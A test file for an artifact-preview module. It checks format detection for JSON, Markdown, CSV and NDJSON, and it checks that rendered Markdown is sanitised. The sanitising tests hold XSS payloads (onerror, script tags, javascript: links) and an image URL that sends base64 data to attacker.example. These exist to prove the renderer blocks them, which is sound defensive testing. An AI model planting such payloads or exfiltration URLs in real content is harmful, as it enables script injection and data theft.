import { describe, expect, it } from 'vitest';
import { choosePreview, markdownHtml } from '../src/pages/artifact-preview.js';

describe('artifact previews', () => {
  it('a JSON string holding Markdown is Markdown, not JSON with \\n escapes', () => {
    expect(choosePreview('hotspots/report', JSON.stringify('# Hotspots\n\n- src/hot.js\n'))).toEqual({ kind: 'markdown', text: '# Hotspots\n\n- src/hot.js\n' });
  });
  it('a step output with a markdown field shows the Markdown, the other fields as JSON', () => {
    expect(choosePreview('hotspots/report', JSON.stringify({ markdown: '# H\n', hotspots: 2 }))).toEqual({ kind: 'markdown', text: '# H\n', rest: { hotspots: 2 } });
  });
  it('records become a table; other JSON a tree; NDJSON and CSV tables; anything else text', () => {
    expect(choosePreview('r', '[{"file":"a","score":1},{"file":"b","churn":2}]')).toMatchObject({ kind: 'table', format: 'json', columns: ['file', 'score', 'churn'] });
    expect(choosePreview('r', '{"a":{"b":[1,2]}}')).toEqual({ kind: 'json', value: { a: { b: [1, 2] } } });
    expect(choosePreview('x.ndjson', '{"a":1}\n{"a":2,"b":"x"}\n')).toMatchObject({ kind: 'table', format: 'ndjson', columns: ['a', 'b'] });
    expect(choosePreview('x.csv', 'name,note\nalpha,"says ""hi"", twice"\n')).toEqual({ kind: 'table', format: 'csv', columns: ['name', 'note'], rows: [{ name: 'alpha', note: 'says "hi", twice' }] });
    expect(choosePreview('log', 'plain words')).toEqual({ kind: 'text', text: 'plain words' });
  });

  it('hostile Markdown renders no markup that could run: raw HTML is text, javascript: links are not links', () => {
    const html = markdownHtml('# t\n\n<img src=x onerror=alert(1)>\n\n<script>alert(2)</script>\n\n[x](javascript:alert(3)) [y](data:text/html,hi)');
    expect(html).toContain('<h1>t</h1>');
    expect(html).not.toMatch(/<img|<script|href="javascript:|href="data:/);
    expect(html).toContain('&lt;img');
  });

  it('table alignment is a class, never an inline style (the Content-Security-Policy allows none)', () => {
    const html = markdownHtml('| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n');
    expect(html).not.toContain('style=');
    expect(html).toContain('<th class="md-align-left">a</th>');
    expect(html).toContain('<td class="md-align-center">2</td>');
    expect(html).toContain('<td class="md-align-right">3</td>');
  });

  it('an image on another host is a link, not fetched when the preview opens (outsider attack on issue 18)', () => {
    const html = markdownHtml('![secret](https://attacker.example/x.png?d=c2VjcmV0) ![b](//attacker.example/y.png) ![ok](./local.png)');
    expect(html).not.toMatch(/<img[^>]*attacker/);
    expect(html).toContain('<a href="https://attacker.example/x.png?d=c2VjcmV0" rel="noreferrer noopener">secret</a>');
    expect(html).toContain('<a href="//attacker.example/y.png" rel="noreferrer noopener">b</a>');
    expect(html).toContain('<img src="./local.png" alt="ok">');
  });
});
